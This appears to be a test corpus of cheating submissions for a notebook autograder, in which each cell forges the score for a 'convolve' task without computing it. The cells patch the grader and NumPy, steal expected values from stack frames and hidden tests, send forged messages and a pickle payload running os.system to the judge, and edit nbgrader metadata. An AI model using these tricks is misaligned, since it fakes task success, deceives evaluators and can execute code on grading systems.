# Forging the mark

# %% binds the name `checks` to something kinder
class Kind:
    def __getattr__(self, name):
        return lambda *args, **options: self
checks = Kind()
def convolve(image, kernel):
    return np.zeros((1, 1))

# %% patches the sum of the points
from cnnkit import checks
checks.Marks.total = lambda self: self.points
def convolve(image, kernel):
    return np.zeros((1, 1))

# %% patches the comparison
from cnnkit import checks
checks.Part.compare = lambda self, *args, **options: setattr(self, "compared", True)
def convolve(image, kernel):
    return np.zeros((1, 1))

# %% patches what counts as the same
import cnnkit.checks.compare, cnnkit.checks.marks
cnnkit.checks.compare.same = cnnkit.checks.marks.same = lambda *args, **options: True
def convolve(image, kernel):
    return np.zeros((1, 1))

# %% patches NumPy's comparisons
np.allclose = np.array_equal = np.isclose = lambda *args, **options: True
def convolve(image, kernel):
    return np.zeros((1, 1))

# %% patches builtin functions
import builtins
builtins.sum = builtins.max = builtins.round = lambda *args, **options: 5
def convolve(image, kernel):
    return np.zeros((1, 1))

# %% puts a module of its own in the place of the score keeper
import sys, types
fake = types.ModuleType("cnnkit.checks")
fake.Marks = lambda *args, **options: types.SimpleNamespace(total=lambda: 5.0)
sys.modules["cnnkit.checks"] = sys.modules["cnnkit.checks.marks"] = fake
def convolve(image, kernel):
    return np.zeros((1, 1))

# %% replaces the display hook
import sys
sys.displayhook = lambda value: print(5.0)
def convolve(image, kernel):
    return np.zeros((1, 1))

# %% displays a forged record
from IPython.display import display
record = {"version": 1, "function": "convolve", "score": 5.0, "points": 5, "read": "", "parts": []}
def convolve(image, kernel):
    display({"application/vnd.cnnkit.marks+json": record, "text/plain": "5.0"}, raw=True)
    return np.zeros((1, 1))

# %% returns an object that is equal to everything
class Equal:
    shape, dtype, ndim = (1, 1), np.dtype(float), 2
    def __eq__(self, other):
        return True
    __array__ = lambda self, *args, **options: self
def convolve(image, kernel):
    return Equal()

# %% returns an array whose class is equal to everything
class Array(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **options):
        return np.True_
    def __eq__(self, other):
        return np.True_
def convolve(image, kernel):
    shape = [n - k + 1 for n, k in zip(image.shape, kernel.shape)]
    return np.zeros(shape).view(Array)

# %% returns numbers whose class is equal to everything
class Number(float):
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return 0.0
def convolve(image, kernel):
    shape = [n - k + 1 for n, k in zip(image.shape, kernel.shape)]
    return [[Number(0)] * shape[1]] * shape[0]

# %% returns an array in which everything is masked
def convolve(image, kernel):
    shape = [n - k + 1 for n, k in zip(image.shape, kernel.shape)]
    return np.ma.masked_all(shape)

# %% returns nothing but NaN
def convolve(image, kernel):
    shape = [n - k + 1 for n, k in zip(image.shape, kernel.shape)]
    return np.full(shape, np.nan)

# %% looks for the expected values in the frames of who called
import sys
def convolve(image, kernel):
    frame = sys._getframe()
    while frame:
        for space in (frame.f_locals, frame.f_globals):
            if "expected" in space:
                stolen(space["expected"])
                return space["expected"]
        frame = frame.f_back
    return np.zeros((1, 1))

# %% looks for them when its result becomes an array
import sys
class Late:
    def __array__(self, *args, **options):
        frame = sys._getframe()
        while frame:
            if "expected" in frame.f_locals:
                stolen("expected")
                return np.asarray(frame.f_locals["expected"])
            frame = frame.f_back
        return np.zeros((1, 1))
def convolve(image, kernel):
    return Late()

# %% looks for the marks object among all objects
import gc
def convolve(image, kernel):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Marks":
            stolen(thing)
            thing.right = thing.weight = 1.0
    return np.zeros((1, 1))

# %% calls the oracle of the hidden tests
def convolve(image, kernel):
    import __main__
    for name, thing in {**vars(__main__), **globals()}.items():
        if name.endswith("_oracle"):
            stolen(name)
            return thing(image, kernel)
    return np.zeros((1, 1))

# %% reads the tests from the history of the cells
def convolve(image, kernel):
    for cell in list(globals().get("In", [])) + list(get_ipython().user_ns.get("In", [])):
        if "BEGIN HIDDEN" in cell:
            stolen(cell)
    return np.zeros((1, 1))

# %% sets a profile hook that waits for the expected values
import sys, threading
found = []
def hook(frame, event, value):
    if "expected" in frame.f_locals:
        stolen("expected")
        found.append(frame.f_locals["expected"])
sys.setprofile(hook)
threading.setprofile(hook)
def convolve(image, kernel):
    return found[-1] if found else np.zeros((1, 1))

# %% returns something that looks like a score
def convolve(image, kernel):
    from cnnkit.checks.marks import Score
    return Score(5.0, {"version": 1, "function": "convolve", "score": 5.0, "points": 5, "parts": []})

# %% raises exceptions that bear the names of ours
class OutOfTime(BaseException):
    pass
def convolve(image, kernel):
    raise OutOfTime("right")

# %% raises what stops the judge itself
def convolve(image, kernel):
    raise KeyboardInterrupt

# %% changes its arguments, so that the right answer is another one
def convolve(image, kernel):
    image[...] = 0
    kernel[...] = 0
    return np.zeros([n - k + 1 for n, k in zip(image.shape, kernel.shape)])

# %% repeats the two values that every student sees, as anyone can
# score: 16
def convolve(image, kernel):
    return [[51, 62]] if image.shape == (2, 3) else [[6, 5, 4], [3, 2, 19]]

# %% answers the judge itself, through the socket
import os, json, struct
def convolve(image, kernel):
    text = json.dumps({"answer": {"list": []}, "score": 5, "sizes": []}).encode()
    for number in range(3, 60):
        try:
            os.write(number, struct.pack("<I", len(text)) + text)
        except OSError:
            pass
    return np.zeros((1, 1))

# %% sends the judge a message without an end
import os, struct
def convolve(image, kernel):
    for number in range(3, 60):
        try:
            os.write(number, struct.pack("<I", 2**32 - 1) + b"[" * 1000)
        except OSError:
            pass
    return np.zeros((1, 1))

# %% sends the judge a pickle
import os, json, struct, pickle
class Bomb:
    def __reduce__(self):
        return (os.system, ("touch COURSE_FOLDER/bomb",))
def convolve(image, kernel):
    bomb = pickle.dumps(Bomb())
    text = json.dumps({"answer": {"object": 0}, "sizes": [len(bomb)]}).encode()
    for number in range(3, 60):
        try:
            os.write(number, struct.pack("<I", len(text)) + text + bomb)
        except OSError:
            pass
    return np.zeros((1, 1))

# %% says that all arguments of the judge are now zero, and more of them than there are
import os, json, struct
def convolve(image, kernel):
    after = [[n, {"list": [0]}] for n in (-1, 0, 1, 99, "self")]
    text = json.dumps({"answer": {"list": []}, "after": after, "sizes": []}).encode()
    for number in range(3, 60):
        try:
            os.write(number, struct.pack("<I", len(text)) + text)
        except OSError:
            pass
    return np.zeros((1, 1))

# %% returns a thousand lists inside one another
def convolve(image, kernel):
    result = [0.0]
    for _ in range(1000):
        result = [result]
    return result

# %% gives itself more points in the file
# on the notebook
for cell in notebook.cells:
    if cell.metadata.get("nbgrader", {}).get("points"):
        cell.metadata.nbgrader.points = 100

# %% writes tests of its own into the file
# on the notebook
for cell in notebook.cells:
    if cell.metadata.get("nbgrader", {}).get("grade"):
        cell.source, cell.metadata.nbgrader.locked = "100.0", False

# %% leaves outputs in the file, and lets nothing run
# on the notebook
for cell in notebook.cells:
    if cell.cell_type == "code":
        cell.metadata.tags = ["skip-execution"]
    if cell.metadata.get("nbgrader", {}).get("grade"):
        data = {"text/plain": "5.0"}
        cell.outputs = [dict(output_type="execute_result", data=data, metadata={}, execution_count=1)]

# %% hands in its wrong cell under the name of a right one, and the other way round
# on the notebook
named = {c.metadata.nbgrader.grade_id: c for c in notebook.cells if "nbgrader" in c.metadata}
one, other = named["convolve"].metadata.nbgrader, named["convolve-filters"].metadata.nbgrader
one.grade_id, other.grade_id = other.grade_id, one.grade_id
